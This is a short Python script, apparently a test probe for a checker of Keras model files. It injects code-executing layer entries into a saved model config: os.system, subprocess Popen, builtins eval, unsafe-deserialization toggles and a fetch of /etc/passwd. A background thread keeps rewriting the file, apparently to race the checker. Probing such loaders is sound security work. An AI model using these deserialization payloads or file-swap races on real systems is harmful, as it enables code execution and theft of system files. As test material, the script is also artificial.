# tries: to write down an architecture by hand whose parts are functions and classes that do something when they are made.
# gets nothing if: the judge refuses each of them.
# %% weak
# %%
import atexit
import json
import os
import threading
import time

parts = [
    {"class_name": "function", "module": "os", "config": "system", "registered_name": "system"},
    {"class_name": "get_file", "module": "keras.utils", "config": {"origin": "file:///etc/passwd"}, "registered_name": None},
    {"class_name": "enable_unsafe_deserialization", "module": "keras.config", "config": {}, "registered_name": None},
    {"class_name": "Popen", "module": "subprocess", "config": {"args": "touch /tmp/judge-was-here"}, "registered_name": "Popen"},
    {"class_name": "__lambda__", "config": {"value": "eJwLAAA="}},
    {"class_name": "Lambda", "config": {"function": "x"}},
    {"class_name": "Dense", "module": "keras.layers", "config": {"units": 1}, "registered_name": "builtins>eval"},
]
written = json.loads(open("../out/model-1.json").read())
written["config"]["layers"][1:1] = parts


def write():
    while True:
        open("../out/.forged", "w").write(json.dumps(written))
        os.replace("../out/.forged", "../out/model-1.json")
        time.sleep(0.01)


threading.Thread(target=write, daemon=True).start()
time.sleep(0.5)
